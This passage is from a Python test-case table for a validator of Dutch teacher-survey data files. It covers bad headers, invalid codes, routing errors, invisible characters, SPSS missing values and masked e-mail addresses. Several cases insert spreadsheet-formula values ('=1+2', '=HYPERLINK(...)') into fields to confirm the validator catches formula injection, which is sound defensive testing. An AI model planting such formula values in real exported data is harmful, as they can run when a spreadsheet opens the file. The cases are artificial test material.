        (R, "column opmerking_intern: unknown column"),
    ),
    Case(
        "missing_column",
        "column v6_3 left out",
        "refused",
        _missing_column,
        ValidationError,
        (R, "column v6_3: column missing"),
    ),
    Case(
        "renamed_upper_case",
        "v5_1 renamed to 'V5_1'",
        "refused",
        _renamed("V5_1"),
        ValidationError,
        (
            R,
            "column V5_1: unknown column",
            "renamed? the codebook name is 'v5_1'",
            "column v5_1: column missing",
        ),
    ),
    Case(
        "renamed_zero_padded",
        "v5_1 renamed to 'v05_1'",
        "refused",
        _renamed("v05_1"),
        ValidationError,
        (R, "column v05_1: unknown column", "renamed? the codebook name is 'v5_1'"),
    ),
    Case(
        "header_trailing_space",
        "header 'v5_1 ' with a trailing space",
        "handled",
        _renamed("v5_1 "),
        check=_check_same,
    ),
    Case(
        "duplicate_column",
        "two columns named v5_1",
        "refused",
        _duplicate_column,
        ReadError,
        (R, "duplicate column names in the header: v5_1"),
    ),
    # values
    Case(
        "code_out_of_range",
        "v4 = 9 (codes 1-5)",
        "refused",
        _set(0, "v4", 9),
        ValidationError,
        (R, "column v4", "row 2", "code not allowed", "'9'", "one of 1-5"),
    ),
    Case(
        "code_not_integer_decimal",
        "v5_1 = '2.5'",
        "refused",
        _set(2, "v5_1", "2.5"),
        ValidationError,
        (R, "column v5_1", "row 4", "not an integer code", "'2.5'"),
    ),
    Case(
        "code_not_integer_word",
        "v8 = 'ja'",
        "refused",
        _set(4, "v8", "ja"),
        ValidationError,
        (R, "column v8", "row 6", "not an integer code", "'ja'"),
    ),
    Case(
        "multi_not_0_1",
        "v7_1 = 2 (a checkbox)",
        "refused",
        _set(0, "v7_1", 2),
        ValidationError,
        (R, "column v7_1", "row 2", "code not allowed", "'2'"),
    ),
    Case(
        "percentage_out_of_range",
        "v14_1 = 140",
        "refused",
        _set(0, "v14_1", 140.0),
        ValidationError,
        (R, "column v14_1", "row 2", "number out of range", "'140'"),
    ),
    Case(
        "routing_leraar_q9",
        "a leraar (row 3) answers Q9, a schoolleider question",
        "refused",
        _leraar_answers_q9,
        ValidationError,
        (R, "column v9", "row 3", "answered although the question was not shown", "'2'"),
    ),
    Case(
        "routing_q20_without_v19",
        "Q20 explanation while v19 is not 3-5",
        "refused",
        _q20_without_v19,
        ValidationError,
        (R, "column v20", "answered although the question was not shown"),
    ),
    Case(
        "duplicate_ids",
        "R001 twice (rows 2 and 3)",
        "refused",
        _duplicate_id,
        ValidationError,
        (R, "column respondent_id", "rows 2 and 3", "duplicate respondent_id", "'R001'"),
    ),
    Case("empty_file", "0 bytes", "refused", _empty_file, ValidationError, (R, "file is empty")),
    Case(
        "header_only",
        "header, no data rows",
        "refused",
        _header_only,
        ValidationError,
        (R, "file has a header but no data rows"),
    ),
    Case(
        "no_go_schoolleiders",
        "a group with zero respondents: no schoolleiders in the go sector",
        "handled",
        _no_go_schoolleiders,
        check=_check_no_go_schoolleiders,
    ),
    Case(
        "werktijdfactor_prose",
        "every v3 answer is prose (one with an e-mail address)",
        "handled",
        _prose_werktijdfactor,
        check=_check_prose_werktijdfactor,
    ),
    Case(
        "school_frame_missing_school",
        "respondents of school S03, which the school frame lacks",
        "refused",
        _school_frame_missing_school,
        ValidationError,
        (R, "column school_id", "row 7", "school_id not in the school frame", "'S03'"),
    ),
    Case(
        "school_id_formula",
        "a school frame id '=1+2'",
        "refused",
        _school_frame_formula,
        ValidationError,
        ("schools.csv", "column school_id", "row 5", "looks like a spreadsheet formula", "'=1+2'"),
    ),
    Case(
        "formula_in_free_text_csv",
        "=HYPERLINK(...) in free text v24 (CSV)",
        "handled",
        _set(2, "v24", HYPERLINK),
        check=_check_same_but("v24"),
    ),
    Case(
        "formula_in_coded_csv",
        "=HYPERLINK(...) in coded column v5_1 (CSV)",
        "refused",
        _set(2, "v5_1", HYPERLINK),
        ValidationError,
        (R, "column v5_1", "row 4", "not an integer code"),
    ),
    Case(
        "formula_in_respondent_id",
        "respondent_id '=HYPERLINK(...)'",
        "refused",
        _set(2, "respondent_id", HYPERLINK),
        ValidationError,
        (R, "column respondent_id", "row 4", "looks like a spreadsheet formula"),
    ),
    Case(
        "formula_in_free_text_xlsx",
        "a real formula cell =HYPERLINK(...) in v24 (XLSX)",
        "handled",
        _xlsx_formula("v24"),
        check=_check_same_but("v24"),
    ),
    Case(
        "formula_in_coded_xlsx",
        "a real formula cell =HYPERLINK(...) in v5_1 (XLSX, no cached value)",
        "refused",
        _xlsx_formula("v5_1"),
        ValidationError,
        ("respondents.xlsx", "column v5_1", "row 4", "not an integer code"),
    ),
    # Excel and SPSS
    Case(
        "xlsx_title_row",
        "a title row above the header",
        "refused",
        _xlsx_title_row(False),
        ReadError,
        ("respondents.xlsx", "row 1 of sheet 'Sheet' should hold the header", "are on row 2"),
    ),
    Case(
        "xlsx_merged_title_row",
        "a merged title row above the header",
        "refused",
        _xlsx_title_row(True),
        ReadError,
        ("respondents.xlsx", "should hold the header", "the column names are on row 2"),
    ),
    Case(
        "xlsx_two_header_rows",
        "two header rows, question text merged over the grid columns",
        "refused",
        _xlsx_two_header_rows,
        ReadError,
        ("respondents.xlsx", "merged cells", "in the header"),
    ),
    Case(
        "sav_changed_label",
        "SPSS value label of v4 code 2 changed",
        "refused",
        _sav_labels(_relabel_v4),
        ValidationError,
        ("respondents.sav", "column v4", "value label of code 2 differs", "'25 tot 35 jaar'"),
    ),
    Case(
        "sav_swapped_labels",
        "SPSS labels of v5_1 in reverse order (recoded scale)",
        "refused",
        _sav_labels(_swap_v5),
        ValidationError,
        ("respondents.sav", "column v5_1", "value label of code 1 differs"),
    ),
    Case(
        "sav_extra_label",
        "SPSS label for a code the codebook lacks (v8 = 9)",
        "refused",
        _sav_labels(_extra_label_v8),
        ValidationError,
        ("respondents.sav", "column v8", "which the codebook does not have", "'9'"),
    ),
    # ---- round two: readable errors, masked values, hints
    Case(
        "school_ids_phone_shaped",
        "every school id written like a phone number ('+31612000001') in both files",
        "refused",
        _phone_shaped_school_ids,
        ValidationError,
        (
            "schools.csv",
            R,
            "column school_id",
            "looks like an e-mail address or a phone number",
            "'+3********** (12 tekens)'",
        ),
    ),
    Case(
        "school_id_mobile_number",
        "one school id is a mobile number ('06-12345678')",
        "refused",
        _ids(school_ids=lambda v: "06-12345678" if v == "S03" else v),
        ValidationError,
        (
            R,
            "column school_id",
            "row 7",
            "looks like an e-mail address or a phone number",
            "(11 tekens)",
        ),
    ),
    Case(
        "respondent_id_email",
        "respondent ids are e-mail addresses",
        "refused",
        _ids(respondent_ids=lambda v: f"{v.lower()}.devries@school.example"),
        ValidationError,
        (
            R,
            "column respondent_id",
            "rows 2, 3, 4, 5, 6 and 7",
            "looks like an e-mail address",
            "r0***@sc***.example",
        ),
    ),
    Case(
        "phone_in_coded_cell",
        "a phone number in a coded column (v4)",
        "refused",
        _set(1, "v4", "06-12345678"),
        ValidationError,
        (R, "column v4", "row 3", "not an integer code", "(11 tekens)"),
    ),
    Case(
        "email_as_column_name",
        "an e-mail address as a column name instead of v6_3",
        "refused",
        _header_cell("v6_3", "j.jansen@example.org"),
        ValidationError,
        (R, "unknown column", "j.***@ex***.org", "column v6_3: column missing"),
    ),
    Case(
        "many_rows_leading_zeros",
        "1.200 respondents whose school ids lost their leading zeros ('1' for '001')",
        "refused",
        _many_rows_leading_zeros,
        ValidationError,
        (R, "column school_id", "1200 rows", "not in the school frame", "leading zeros were lost"),
    ),
    Case(
        "leading_zeros_lost",
        "school ids '101' in the respondents file, '00101' in the school frame",
        "refused",
        _frame_ids(lambda v: str(100 + int(v[1:])), lambda v: f"00{100 + int(v[1:])}"),
        ValidationError,
        (R, "column school_id", "'101'", "leading zeros were lost", "'101' is '00101'"),
    ),
    Case(
        "leading_zeros_lost_in_school_frame",
        "school ids '00101' in the respondents file, '101' in the school frame",
        "refused",
        _frame_ids(lambda v: f"00{100 + int(v[1:])}", lambda v: str(100 + int(v[1:]))),
        ValidationError,
        (R, "column school_id", "'00101'", "leading zeros were lost"),
    ),
    Case(
        "school_ids_as_decimals",
        "school ids '101.0' in the respondents file, '101' in the school frame",
        "refused",
        _frame_ids(lambda v: f"{100 + int(v[1:])}.0", lambda v: str(100 + int(v[1:]))),
        ValidationError,
        (R, "column school_id", "'101.0'", "decimal numbers"),
    ),
    Case(
        "school_ids_lower_case",
        "school ids 's01' in the respondents file, 'S01' in the school frame",
        "refused",
        _frame_ids(str.lower, lambda v: v),
        ValidationError,
        (R, "column school_id", "'s01'", "upper/lower case"),
    ),
    Case(
        "every_code_wrong",
        "every coded cell holds 'x' (about 180 columns)",
        "refused",
        _every_code_wrong,
        ValidationError,
        (R, "not an integer code", "more lines", "full list"),
    ),
    # ---- round two: where the header is
    Case(
        "xlsx_header_on_row_3",
        "two title rows above the header (XLSX)",
        "refused",
        _xlsx_title_rows(2),
        ReadError,
        ("respondents.xlsx", "the column names are on row 3"),
    ),
    Case(
        "schools_xlsx_title_row",
        "a title row above the header of the school frame (XLSX)",
        "refused",
        _xlsx_title_rows(1, "schools"),
        ReadError,
        ("schools.xlsx", "the column names are on row 2"),
    ),
    Case(
        "xlsx_info_sheet_first",
        "an information sheet 'Toelichting' before the data sheet (XLSX)",
        "refused",
        _xlsx_info_sheet_first,
        ReadError,
        ("respondents.xlsx", "first worksheet ('Toelichting')", "'Data' (sheet 2)", "on row 1"),
    ),
    Case(
        "csv_title_line",
        "a title line (not a '#' comment) above the header (CSV)",
        "refused",
        _csv_title_lines(["Export werkdrukmonitor"]),
        ReadError,
        (R, "line 2 of the file should hold the header", "the column names are on line 3"),
    ),
    Case(
        "csv_title_lines_dutch",
        "a title and an empty ';;;' line above the header (Dutch Excel CSV)",
        "refused",
        _csv_title_lines(["Werkdrukmonitor;;;", ";;;"], sep=";"),
        ReadError,
        (R, "the column names are on line 4"),
    ),
    # ---- round two: invisible characters and byte-order marks
    Case(
        "header_zero_width_space",
        "a zero-width space after 'v6_1' in the header",
        "refused",
        _header_cell("v6_1", "v6_1\u200b"),
        ValidationError,
        (R, "column v6_1\\u200b", "U+200B ZERO WIDTH SPACE", "the codebook column v6_1"),
        absent=("v6_1: column missing", "unknown column"),
    ),
    Case(
        "header_word_joiner",
        "a word joiner (U+2060) before 'respondent_id'",
        "refused",
        _header_cell("respondent_id", "\u2060respondent_id"),
        ValidationError,
        (R, "U+2060 WORD JOINER", "the codebook column respondent_id"),
    ),
    Case(
        "header_soft_hyphen",
        "a soft hyphen inside 'v6_3'",
        "refused",
        _header_cell("v6_3", "v6_\u00ad3"),
        ValidationError,
        (R, "U+00AD SOFT HYPHEN", "the codebook column v6_3"),
    ),
    Case(
        "header_no_break_space",
        "a no-break space after 'v6_2' (trimmed like a space)",
        "handled",
        _header_cell("v6_2", "v6_2\u00a0"),
        check=_check_same,
    ),
    Case(
        "bom_twice",
        "a UTF-8 byte-order mark written twice",
        "handled",
        _bom_twice,
        check=_check_same,
    ),
    Case(
        "bom_after_comment",
        "a comment line put before the file's byte-order mark",
        "handled",
        _bom_after_comment,
        check=_check_same,
    ),
    Case(
        "joined_exports_with_bom",
        "two exports joined: the second header and its byte-order mark in the data",
        "refused",
        _joined_exports(True),
        ReadError,
        (R, "row 5 repeats the header", "byte-order mark (U+FEFF)"),
    ),
    Case(
        "joined_exports",
        "two exports joined without byte-order marks",
        "refused",
        _joined_exports(False),
        ReadError,
        (R, "row 5 repeats the header", "keep one header row"),
        absent=("byte-order mark",),
    ),
    Case(
        "invisible_in_coded_cell",
        "a zero-width space after a code ('3\u200b')",
        "refused",
        _set(1, "v4", "3\u200b"),
        ValidationError,
        (R, "column v4", "row 3", "not an integer code", "'3\\u200b'", "U+200B ZERO WIDTH SPACE"),
    ),
    # ---- round two: what bureaus deliver
    Case(
        "sav_user_missing_declared",
        "SPSS: -99 'Geen antwoord' declared user-missing in v5_1 (rows 3 and 6)",
        "handled",
        _sav(
            {(1, "v5_1"): -99, (4, "v5_1"): -99},
            {"v5_1": {-99.0: "Geen antwoord"}},
            {"v5_1": [-99]},
        ),
        check=_check_missing_codes({"v5_1": {"-99 'Geen antwoord'": 2}}, {"v5_1": [1, 4]}),
    ),
    Case(
        "sav_user_missing_range",
        "SPSS: user-missing range -9..-1 with labels 'Weet niet' and 'Wil ik niet zeggen'",
        "handled",
        _sav(
            {(0, "v6_1"): -1, (2, "v6_2"): -2},
            {"v6_1": {-1.0: "Weet niet"}, "v6_2": {-2.0: "Wil ik niet zeggen"}},
            {"v6_1": [{"lo": -9, "hi": -1}], "v6_2": [{"lo": -9, "hi": -1}]},
        ),
        check=_check_missing_codes(
            {"v6_1": {"-1 'Weet niet'": 1}, "v6_2": {"-2 'Wil ik niet zeggen'": 1}},
            {"v6_1": [0], "v6_2": [2]},
        ),
    ),
    Case(
        "sav_labelled_missing_undeclared",
        "SPSS: -99 labelled 'Geen antwoord' in v4 but not declared missing",
        "handled",
        _sav({(3, "v4"): -99}, {"v4": {-99.0: "Geen antwoord"}}),
        check=_check_missing_codes({"v4": {"-99 'Geen antwoord'": 1}}, {"v4": [3]}),
    ),
    Case(
        "sav_weet_niet_ambiguous",
        "SPSS: -1 labelled 'Weet niet' in v8, whose codebook has 'Weet ik niet' as an answer",
        "refused",
        _sav({(2, "v8"): -1}, {"v8": {-1.0: "Weet niet"}}),
        ValidationError,
        (
            "respondents.sav",
            "column v8",
            "row 4",
            "code -1 is labelled 'Weet niet' as a missing value",
            "recode -1",
        ),
    ),
    Case(
        "sav_declared_missing_is_an_answer",
        "SPSS: v8 code 4 'Weet ik niet' declared user-missing, an answer the report counts",
        "handled",
        _sav({(i, "v8"): c for i, c in enumerate([4, 1, 2, 3, 4, 1])}, {}, {"v8": [4]}),
        check=_check_missing_codes({}, {}, kept={"v8": {"4 'Weet ik niet'": 2}}),
    ),
    Case(
        "sav_note_names_other_year",
        "SPSS: the file's note says 'export meting 2022', the folder and columns are 2024",
        "handled",
        _sav({}, {}, note="# SYNTHETISCHE DATA - export meting 2022"),
        check=_check_comment_years([2022], same=False),
    ),
    Case(
        "csv_minus_99",
        "CSV: -99 for 'no answer' in v5_1 (no labels to say so)",
        "refused",
        _set(1, "v5_1", -99),
        ValidationError,
        (R, "column v5_1", "row 3", "code not allowed", "'-99'", "looks like a missing-value code"),
    ),
    Case(
        "xlsx_minus_1_percentage",
        "XLSX: -1 in the percentage v14_1",
        "refused",
        _schoolleider_cell("v14_1", -1, "xlsx"),
        ValidationError,
        ("respondents.xlsx", "column v14_1", "row 2", "number out of range", "missing-value code"),
    ),
    Case(
        "percent_sign_in_percentage",
        "'40%' in the percentage v14_1",
        "refused",
        _schoolleider_cell("v14_1", "40%"),
        ValidationError,
        (R, "column v14_1", "row 2", "not a number", "'40%'", "without '%'"),
    ),
    Case(
        "labels_instead_of_codes",
        "v5_1 exported as answer labels ('Ja, regelmatig') instead of codes",
        "refused",
        _labels_instead_of_codes,
        ValidationError,
        (R, "column v5_1", "not an integer code", "answer labels instead of codes"),
    ),
    Case(
        "comment_export_date_next_year",
        "a 2023 export whose comment line carries its export date in 2024",
        "handled",
        _comment_other_year,
        check=_check_comment_years([2023, 2024], year=2023),
        year=2023,
    ),
    # ---- round two: tiny data
    Case(
        "one_respondent",
        "a measurement with one respondent",
        "handled",
        _rows_only([0]),
        check=_check_loads(1, 1),
    ),
    Case(
        "all_at_one_school",
        "every respondent at one school",
        "handled",
        _all_at_school("S01"),
        check=_check_loads(6, 1),
    ),
)

CASE_NAMES: tuple[str, ...] = tuple(c.name for c in CASES)
assert len(set(CASE_NAMES)) == len(CASE_NAMES), "case names must be unique"
